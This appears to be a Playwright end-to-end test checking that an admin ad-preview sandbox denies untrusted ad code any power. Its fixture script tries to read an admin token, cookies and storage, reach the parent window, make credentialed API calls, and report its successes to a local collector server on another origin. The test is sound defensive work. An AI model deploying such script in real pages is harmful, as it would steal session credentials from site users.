import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expectAccessible } from '../support/accessible.ts'
import { settingsForm } from '../support/admin-settings-screen.ts'
import { expect, test } from '../support/fixtures.ts'

test.beforeEach(({ problems }) => problems.expect(/^404 .*\/api\/admin\/ad-config\//))

/** Records what an ad reports, on another origin. */
const collector = async () => {
  const told: string[] = []
  const server = createServer((req, res) => {
    told.push(decodeURIComponent(req.url ?? ''))
    res.setHeader('Access-Control-Allow-Origin', '*').end()
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  return { told, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, stop: () => server.close() }
}

/** Ad code that tries what the sandbox must prevent, and reports successes to `to`. */
const curious = (to: string) => `<p>An ad</p><script>
const found = []
const attempt = async (name, act) => { try { await act(); found.push(name) } catch {} }
;(async () => {
  await attempt('storage', () => localStorage.getItem('adminToken'))
  await attempt('session', () => sessionStorage.length)
  await attempt('cookie', () => document.cookie)
  await attempt('parent', () => parent.document.title)
  await attempt('top', () => top.localStorage.length)
  await attempt('move', () => { top.location = 'about:blank' })
  await attempt('popup', () => { if (!open('about:blank')) throw 0 })
  await attempt('call', async () => { const answer = await fetch('/api/admin/media', { credentials: 'include' }); await answer.text() })
  parent.postMessage('adminToken', '*')
  await fetch(${JSON.stringify(to)} + '/' + encodeURIComponent('ran; origin ' + origin + '; found ' + found.join()))
  document.querySelector('p').textContent = 'An ad that ran'
})()
</script>`

test('the preview runs code that nobody saved, and gives it no power', async ({ page, operator, problems }) => {
  problems.expect(/Unsafe attempt|Blocked opening|CORS|ERR_|401 |about:blank|sandbox/i)
  const elsewhere = await collector()
  const asked: string[] = []
  page.on('request', (request) => asked.push(new URL(request.url()).pathname))
  await operator.open('/adm/ads')
  const zone = settingsForm(page, 'Ad Zone 1')
  await expect(page.getByRole('button', { name: 'Run Preview' })).toBeDisabled()
  await zone.field('Ad code').fill(curious(elsewhere.url))
  await expect(page.getByRole('button', { name: 'Run Preview' })).toBeEnabled()
  expect(asked.filter((path) => path.includes('ad-preview') || path.includes('ad-frame'))).toEqual([])
  expect(elsewhere.told).toEqual([])

  await page.getByRole('button', { name: 'Run Preview' }).click()
  const frame = page.frameLocator('iframe[title="Ad preview"]')
  await expect(frame.getByText('An ad that ran')).toBeVisible()
  expect(elsewhere.told).toEqual(['/ran; origin null; found '])
  expect(asked.filter((path) => path.includes('ad-preview') || path.includes('ad-frame'))).toEqual(['/adm/ad-preview'])
  await expect(page).toHaveURL('/adm/ads')
  await zone.expectUnsaved()
  await expectAccessible(page)

  await zone.field('Ad code').fill('<script>document.write("<p>Written by old code</p>")</script>')
  await page.getByRole('button', { name: 'Run Again' }).click()
  await expect(frame.getByText('Written by old code')).toBeVisible()
  elsewhere.stop()
})
